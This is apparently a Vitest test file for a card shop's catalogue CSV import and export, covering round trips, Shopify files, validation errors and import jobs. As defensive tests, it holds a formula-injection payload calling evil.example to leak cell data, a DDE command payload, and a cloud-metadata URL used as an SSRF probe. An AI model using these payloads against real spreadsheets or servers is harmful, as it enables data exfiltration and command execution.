import fs from 'node:fs';
import path from 'node:path';
import { stringify } from 'csv-stringify/sync';
import sharp from 'sharp';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { EMPTY_FACTS, FACT_KEYS } from '../../../src/domain/card-facts/facts.ts';
import type { ProductInput } from '../../../src/domain/catalog/product.ts';
import { CSV_COLUMNS } from '../../../src/domain/catalog-csv/columns.ts';
import { readCsvTable } from '../../../src/domain/catalog-csv/parse.ts';
import { REMOTE_IMAGE_MESSAGES } from '../../../src/domain/catalog-csv/remote-images.ts';
import { AppError } from '../../../src/domain/errors.ts';
import {
  commitCatalogImport,
  exportCatalog,
  planCatalogImport,
  runQueuedCatalogImports,
} from '../../../src/server/catalog-csv/catalog-import.ts';
import {
  failUnfinishedImports,
  IMPORT_BUSY,
  IMPORT_INTERRUPTED,
  importJob,
} from '../../../src/server/catalog-csv/import-jobs.ts';
import { type Container, createContainer } from '../../../src/server/container.ts';
import { parseEnv } from '../../../src/server/env.ts';
import { DATABASES } from '../../helpers/databases.ts';
import { createTestDatabase } from '../../helpers/postgres.ts';
import { openTempShop, type TempShop } from '../../helpers/temp-shop.ts';

const ORIGIN = 'https://shop.example';
const shops: TempShop[] = [];
const open = () => {
  const shop = openTempShop();
  shops.push(shop);
  return shop.container;
};
const postgresDatabases: Array<() => Promise<void>> = [];
afterEach(async () => {
  for (const shop of shops.splice(0)) shop.remove();
  for (const drop of postgresDatabases.splice(0)) await drop();
});

/** The databases the catalogue's import and export run on: both, but SQLite alone in the quick set. */
const ON = DATABASES.map(([name]) => name);

/** A shop on `database`: SQLite in a temp data folder, or PostgreSQL, a database of its own beside one. */
async function openOn(database: string): Promise<Container> {
  if (database === 'SQLite') return open();
  const postgres = await createTestDatabase();
  postgresDatabases.push(postgres.drop);
  const shop = openTempShop({ DATABASE_URL: postgres.url });
  shops.push(shop);
  expect(shop.container.database.dialect).toBe('postgres');
  return shop.container;
}

/** Commits a file and runs its job, as the main process does. */
async function importFile(container: Container, text: string) {
  const job = await commitCatalogImport(container, text, ORIGIN);
  expect((await importJob(container, job.id))?.state).toBe('queued');
  await runQueuedCatalogImports(container);
  const done = await importJob(container, job.id);
  if (done?.state !== 'done') throw new Error(done?.error ?? `the import is ${done?.state}`);
  return done;
}

const exported = (container: Container) => exportCatalog(container, undefined, ORIGIN);

const card = (title: string, overrides: Partial<ProductInput> = {}): ProductInput => ({
  title,
  tags: ['Olympiacos'],
  productType: 'Card',
  priceCents: 1250,
  quantity: 2,
  ...overrides,
});

async function fillShop(container: Container) {
  await container.commerce.createProduct(
    card('2018-19 Panini Prizm Σάσα Βεζένκοφ #14 Auto PSA 10', {
      descriptionHtml: '<p>Κάρτα με "εισαγωγικά", κόμματα,\nκαι δεύτερη γραμμή.</p>',
      tags: ['Olympiacos', 'offer'],
      facts: {
        ...EMPTY_FACTS,
        year: '2018-19',
        manufacturer: 'Panini',
        set: 'Prizm',
        autograph: true,
        grader: 'PSA',
        grade: 10,
        certNumber: '0012345678',
      },
    }),
  );
  await container.commerce.createProduct(
    card('2023-24 Topps Chrome Kostas Sloukas #7 Gold /50', {
      priceCents: 8900,
      quantity: 0,
      facts: {
        ...EMPTY_FACTS,
        year: '2023-24',
        manufacturer: 'Topps',
        parallel: 'Gold',
        serialNumber: 7,
        printRun: 50,
        grader: 'RAW',
        condition: 'NEAR_MINT',
      },
    }),
  );
  await container.commerce.createProduct(
    card('15x BASE Cards MYSTERY PACK', { tags: [], productType: 'Mystery Pack', priceCents: 1500 }),
  );
  // Same title twice: the second gets its own handle.
  await container.commerce.createProduct(card('2024-25 Panini EuroLeague Evan Fournier #94'));
  await container.commerce.createProduct(
    card('2024-25 Panini EuroLeague Evan Fournier #94', { priceCents: 300 }),
  );
}

describe.each(ON)('catalogue CSV export and import on %s', (database) => {
  it('round trip: export, import into an empty shop, export again gives the identical file', async () => {
    const source = await openOn(database);
    await fillShop(source);
    const first = await exported(source);
    expect(first.startsWith(`\uFEFF${CSV_COLUMNS.slice(0, 3).join(',')}`)).toBe(true);
    expect(first).toContain('2024-25-panini-euroleague-evan-fournier-94-2');
    expect(first).toContain('Card: Certificate number (product.metafields.card.cert_number)');

    const target = await openOn(database);
    const plan = await planCatalogImport(target, first, ORIGIN);
    expect(plan.counts).toEqual({ create: 5, update: 0, skip: 0, errors: 0 });
    const job = await importFile(target, first);
    expect(job.result).toEqual({ created: 5, updated: 0 });
    const second = await exported(target);
    expect(second).toBe(first);
    // The certificate number comes back as text, its leading zeros kept.
    const graded = (await target.commerce.listProducts()).filter((product) => product.facts.grader === 'PSA');
    expect(graded.map((product) => product.facts.certNumber)).toEqual(['0012345678']);
  });

  it('no cell runs as a spreadsheet formula, and the file imports back to the original text', async () => {
    const source = await openOn(database);
    const formula = '=HYPERLINK("http://evil.example/?"&A2,"x")';
    await source.commerce.createProduct(
      card(formula, {
        descriptionHtml: "+cmd|' /C calc'!A0",
        tags: ['@Olympiacos'],
        facts: { ...EMPTY_FACTS, set: '-2+3', parallel: '+Gold' },
      }),
    );
    const file = await exported(source);
    const cells = file.split('\r\n')[1] ?? '';
    expect(cells).toContain(`"'=HYPERLINK(""http://evil.example/?""&A2,""x"")"`);
    expect(cells).toContain("'+cmd");
    expect(cells).toContain("'@Olympiacos");
    expect(cells).toContain("'-2+3");
    expect(cells).toContain("'+Gold");

    const target = await openOn(database);
    await importFile(target, file);
    const [product] = await target.commerce.listProducts();
    expect(product).toMatchObject({
      title: formula,
      descriptionHtml: "+cmd|' /C calc'!A0",
      tags: ['@Olympiacos'],
      facts: { set: '-2+3', parallel: '+Gold' },
    });
    expect(await exported(target)).toBe(file);
  });

  it('the same file again changes nothing: every product matches by handle and is skipped', async () => {
    const shop = await openOn(database);
    await fillShop(shop);
    const file = await exported(shop);
    const before = await shop.commerce.listProducts();
    const version = await shop.commerce.version();
    expect((await planCatalogImport(shop, file, ORIGIN)).counts).toEqual({
      create: 0,
      update: 0,
      skip: 5,
      errors: 0,
    });
    expect((await importFile(shop, file)).result).toEqual({ created: 0, updated: 0 });
    expect(await shop.commerce.listProducts()).toEqual(before);
    expect(await shop.commerce.version()).toBe(version);
  });

  it('a file written with Windows line breaks inside a description is the same file again', async () => {
    const shop = await openOn(database);
    await fillShop(shop);
    // The description's line break as a spreadsheet on Windows saves it (the shop keeps \n).
    const file = (await exported(shop)).replace('κόμματα,\nκαι', 'κόμματα,\r\nκαι');
    expect(file).toContain('κόμματα,\r\nκαι');
    expect((await planCatalogImport(shop, file, ORIGIN)).counts).toMatchObject({ update: 0, skip: 5 });
  });

  it('a file without the certificate column keeps the numbers, unless it changes the grader', async () => {
    const shop = await openOn(database);
    await fillShop(shop);
    // The file as it was before the column existed: the same cells, less the certificate's.
    const table = readCsvTable(await exported(shop));
    const drop = table.header.indexOf('Card: Certificate number (product.metafields.card.cert_number)');
    expect(drop).toBeGreaterThan(0);
    const without = (cells: string[]) => cells.filter((_, index) => index !== drop);
    const file = stringify([without(table.header), ...table.records.map((record) => without(record.cells))]);
    expect((await planCatalogImport(shop, file, ORIGIN)).counts).toMatchObject({ update: 0, skip: 5 });

    const regraded = file.replace(',PSA,10,', ',BGS,9.5,');
    expect(regraded).not.toBe(file);
    await importFile(shop, regraded);
    const graded = (await shop.commerce.listProducts()).filter((product) => product.facts.grade !== null);
    expect(graded.map((product) => [product.facts.grader, product.facts.certNumber])).toEqual([
      ['BGS', null],
    ]);
  });

  it('an edited file updates what changed and creates what is new', async () => {
    const shop = await openOn(database);
    await fillShop(shop);
    const file = (await exported(shop))
      .replace(',89.00,,0,', ',79.00,,1,')
      .concat(`new-card,New card,,,Card,Olympiacos,TRUE,2.00,,1,,${','.repeat(FACT_KEYS.length)}\r\n`);
    const plan = await planCatalogImport(shop, file, ORIGIN);
    expect(plan.errors).toEqual([]);
    expect(plan.counts).toEqual({ create: 1, update: 1, skip: 4, errors: 0 });
    await importFile(shop, file);
    const products = await shop.commerce.listProducts();
    expect(products.find((product) => product.title.includes('Sloukas'))).toMatchObject({
      priceCents: 7900,
      available: 1,
    });
    expect(products[0]?.handle).toBe('new-card');
  });

  it.each([
    ['a grade of 11', (file: string) => file.replace(',PSA,10,', ',PSA,11,')],
    ['a serial of 100/99', (file: string) => file.replace(',7,50,', ',100,99,')],
    ['wrong columns', (file: string) => file.replace('Variant Price', 'Price')],
    ['a bad number', (file: string) => file.replace(',89.00,', ',89,5.0,')],
  ])('%s: row errors, and a commit writes nothing', async (_, spoil) => {
    const shop = await openOn(database);
    await fillShop(shop);
    const good = await exported(shop);
    const bad = spoil(good).replace(',12.50,', ',99.00,');
    expect(bad).not.toBe(good);
    const plan = await planCatalogImport(shop, bad, ORIGIN);
    expect(plan.errors.length).toBeGreaterThan(0);
    for (const error of plan.errors) expect(error.message).toMatch(/[\u0370-\u03ff]/);
    const before = await shop.commerce.listProducts();
    await expect(commitCatalogImport(shop, bad, ORIGIN)).rejects.toBeInstanceOf(AppError);
    expect(await shop.commerce.listProducts()).toEqual(before);
  });

  it('images: this shop’s own /media/ files are attached; a URL off the image hosts is reported and never fetched', async () => {
    const shop = await openOn(database);
    const png = await sharp({ create: { width: 50, height: 70, channels: 3, background: '#336699' } })
      .png()
      .toBuffer();
    const stored = await shop.media.store(new Uint8Array(png), 'card.png');
    const fetchSpy = vi.spyOn(globalThis, 'fetch');
    const row = (handle: string, image: string) =>
      `${handle},Title ${handle},,,Card,Olympiacos,TRUE,1.00,,1,${image},1${','.repeat(FACT_KEYS.length)}`;
    const file = `${CSV_COLUMNS.map((name) => (name.includes(',') ? `"${name}"` : name)).join(',')}\r\n${[
      row('own', `${ORIGIN}${stored.url}`),
      row('foreign', 'http://169.254.169.254/latest/meta-data/secret.png'),
    ].join('\r\n')}\r\n`;
    const plan = await planCatalogImport(shop, file, ORIGIN);
    expect(plan.errors).toEqual([]);
    expect(plan.notices).toEqual([
      {
        line: 3,
        field: 'Image Src',
        message: `Η εικόνα http://169.254.169.254/latest/meta-data/secret.png δεν θα ληφθεί. ${REMOTE_IMAGE_MESSAGES.notHttps}`,
      },
    ]);
    await importFile(shop, file);
    expect(fetchSpy).not.toHaveBeenCalled();
    const [foreign, own] = await shop.commerce.listProducts();
    expect(own?.images).toHaveLength(1);
    expect(foreign?.images).toEqual([]);
    fetchSpy.mockRestore();
  });
});

describe('a file exported from a Shopify store', () => {
  const header = [
    'Handle',
    'Title',
    'Body (HTML)',
    'Vendor',
    'Product Category',
    'Type',
    'Tags',
    'Published',
    'Option1 Name',
    'Option1 Value',
    'Variant SKU',
    'Variant Inventory Qty',
    'Variant Price',
    'Image Src',
    'Image Position',
    'SEO Title',
    'Price / Greece',
    'Google Shopping / Condition',
    'Condition (product.metafields.shopify.condition)',
    'Card: Year (product.metafields.card.year)',
    'Status',
  ];
  const row = (cells: string[]) => cells.join(',');
  const file = [
    row(header),
    row([
      'prizm-rc',
      'Prizm RC',
      '',
      'Panini',
      'Trading Cards',
      'Card',
      'Olympiacos',
      'TRUE',
      'Title',
      'Default Title',
      'SKU-1',
      '2',
      '12.50',
      '',
      '',
      'Prizm',
      '12.50',
      'new',
      'new',
      '2023',
      'active',
    ]),
    row([
      'prizm-rc',
      '',
      '',
      '',
      '',
      '',
      '',
      '',
      '',
      'Gold',
      'SKU-2',
      '1',
      '40.00',
      '',
      '',
      '',
      '',
      '',
      '',
      '',
      '',
    ]),
    row([
      'draft-card',
      'Draft card',
      '',
      '',
      '',
      'Card',
      'Olympiacos',
      'TRUE',
      'Title',
      'Default Title',
      'SKU-3',
      '1',
      '5.00',
      '',
      '',
      '',
      '',
      '',
      '',
      '',
      'draft',
    ]),
    row([
      'hidden-card',
      'Hidden card',
      '',
      '',
      '',
      'Card',
      'Olympiacos',
      'FALSE',
      'Title',
      'Default Title',
      'SKU-4',
      '1',
      '5.00',
      '',
      '',
      '',
      '',
      '',
      '',
      '',
      '',
    ]),
  ].join('\r\n');

  it('imports what the shop holds and names what it leaves aside: other columns, drafts, further variants', async () => {
    const shop = open();
    const plan = await planCatalogImport(shop, file, ORIGIN);
    expect(plan.errors).toEqual([]);
    expect(plan.counts).toEqual({ create: 1, update: 0, skip: 0, errors: 0 });
    const noticed = plan.notices.map((notice) => `${notice.line}:${notice.field}`);
    for (const column of [
      'Product Category',
      'Option1 Name',
      'Option1 Value',
      'Variant SKU',
      'SEO Title',
      'Price / Greece',
      'Google Shopping / Condition',
      'Condition (product.metafields.shopify.condition)',
    ])
      expect(noticed).toContain(`1:${column}`);
    expect(noticed).toContain('3:Variant Price');
    expect(noticed).toContain('4:Status');
    expect(noticed).toContain('5:Published');
    for (const notice of plan.notices) expect(notice.message).toMatch(/[\u0370-\u03ff]/);

    await importFile(shop, file);
    const products = await shop.commerce.listProducts();
    expect(products.map((product) => [product.handle, product.priceCents, product.facts.year])).toEqual([
      ['prizm-rc', 1250, '2023'],
    ]);
  });

  it('still refuses a column that is neither ours nor Shopify’s, such as a misspelt one', async () => {
    const plan = await planCatalogImport(open(), file.replace('Variant SKU', 'Varient SKU'), ORIGIN);
    expect(plan.errors).toEqual([{ line: 1, field: 'Varient SKU', message: 'Άγνωστη στήλη «Varient SKU».' }]);
  });
});

describe.each(ON)('the dry run and the commit agree on %s', (database) => {
  it('an image named on this shop’s media but missing there is an error of the dry run', async () => {
    const shop = await openOn(database);
    const row = `gone,Gone,,,Card,Olympiacos,TRUE,1.00,,1,${ORIGIN}/media/not-there.webp,1${','.repeat(FACT_KEYS.length)}`;
    const file = `${CSV_COLUMNS.map((name) => (name.includes(',') ? `"${name}"` : name)).join(',')}\r\n${row}\r\n`;
    const plan = await planCatalogImport(shop, file, ORIGIN);
    expect(plan.errors).toEqual([
      {
        line: 2,
        field: 'Image Src',
        message: `Η εικόνα ${ORIGIN}/media/not-there.webp δεν βρέθηκε στα αρχεία αυτού του καταστήματος.`,
      },
    ]);
    expect(plan.counts.errors).toBe(1);
    await expect(commitCatalogImport(shop, file, ORIGIN)).rejects.toBeInstanceOf(AppError);
    expect(await shop.commerce.listProducts()).toEqual([]);
  });
});

describe.each(ON)('export of one sport on %s', (database) => {
  it('holds the cards of that sport’s teams only', async () => {
    const shop = await openOn(database);
    await shop.documents.putCategory({
      id: 'euroleague',
      name: 'EUROLEAGUE',
      teams: [{ name: 'Olympiacos', image: '', players: [] }],
    });
    await fillShop(shop);
    await shop.commerce.createProduct(card('Nikola Jokic Prizm', { tags: ['Denver Nuggets'] }));
    const file = await exportCatalog(shop, 'EUROLEAGUE', ORIGIN);
    const handles = file
      .split('\r\n')
      .slice(1)
      .filter(Boolean)
      .map((line) => line.split(',')[0]);
    expect(handles).toHaveLength(4);
    expect(file).toContain('Olympiacos');
    expect(file).not.toContain('Jokic');
    expect(file).not.toContain('MYSTERY PACK');
    expect((await exportCatalog(shop, undefined, ORIGIN)).includes('Jokic')).toBe(true);
  });
});

describe('import jobs', () => {
  it('are one at a time, and any process on the data folder sees them: the main process runs, a worker reports', async () => {
    const shop = openTempShop();
    shops.push(shop);
    const worker = createContainer(parseEnv({ DATA_DIR: shop.dir }));
    try {
      await fillShop(shop.container);
      const file = (await exported(shop.container)).replace(',89.00,,0,', ',79.00,,1,');
      const job = await commitCatalogImport(worker, file, ORIGIN);
      expect(await importJob(shop.container, job.id)).toMatchObject({ state: 'queued', total: 1, done: 0 });
      await expect(commitCatalogImport(worker, file, ORIGIN)).rejects.toMatchObject({
        kind: 'conflict',
        message: IMPORT_BUSY,
      });
      await runQueuedCatalogImports(shop.container);
      expect(await importJob(worker, job.id)).toEqual({
        id: job.id,
        state: 'done',
        total: 1,
        done: 1,
        result: { created: 0, updated: 1 },
        error: null,
      });
      // The file is not kept once the job has run.
      const kept = shop.engine.sqlite.prepare('SELECT file FROM import_jobs WHERE id = ?').get(job.id);
      expect(kept).toEqual({ file: null });
    } finally {
      worker.close();
    }
  });

  it('a job a stopped process left unfinished is failed at the next start, with what to do', async () => {
    const shop = open();
    await fillShop(shop);
    const job = await commitCatalogImport(shop, (await exported(shop)).replace(',89.00,', ',79.00,'), ORIGIN);
    expect(await failUnfinishedImports(shop)).toBe(1);
    expect(await importJob(shop, job.id)).toMatchObject({ state: 'failed', error: IMPORT_INTERRUPTED });
    await runQueuedCatalogImports(shop);
    expect((await importJob(shop, job.id))?.state).toBe('failed');
  });

  it('a job whose file no longer passes its check fails in Greek and writes nothing', async () => {
    const shop = open();
    const png = await sharp({ create: { width: 20, height: 20, channels: 3, background: '#000' } })
      .png()
      .toBuffer();
    const stored = await shop.media.store(new Uint8Array(png), 'card.png');
    const row = `own,Own,,,Card,Olympiacos,TRUE,1.00,,1,${ORIGIN}${stored.url},1${','.repeat(FACT_KEYS.length)}`;
    const file = `${CSV_COLUMNS.map((name) => (name.includes(',') ? `"${name}"` : name)).join(',')}\r\n${row}\r\n`;
    const job = await commitCatalogImport(shop, file, ORIGIN);
    fs.rmSync(path.join(shop.env.dataDir, 'media', stored.url.replace('/media/', '')));
    await runQueuedCatalogImports(shop);
    expect(await importJob(shop, job.id)).toMatchObject({ state: 'failed' });
    expect((await importJob(shop, job.id))?.error).toBe(
      'Το αρχείο έχει 1 σφάλματα· δεν αποθηκεύτηκε τίποτα.',
    );
    expect(await shop.commerce.listProducts()).toEqual([]);
  });
});
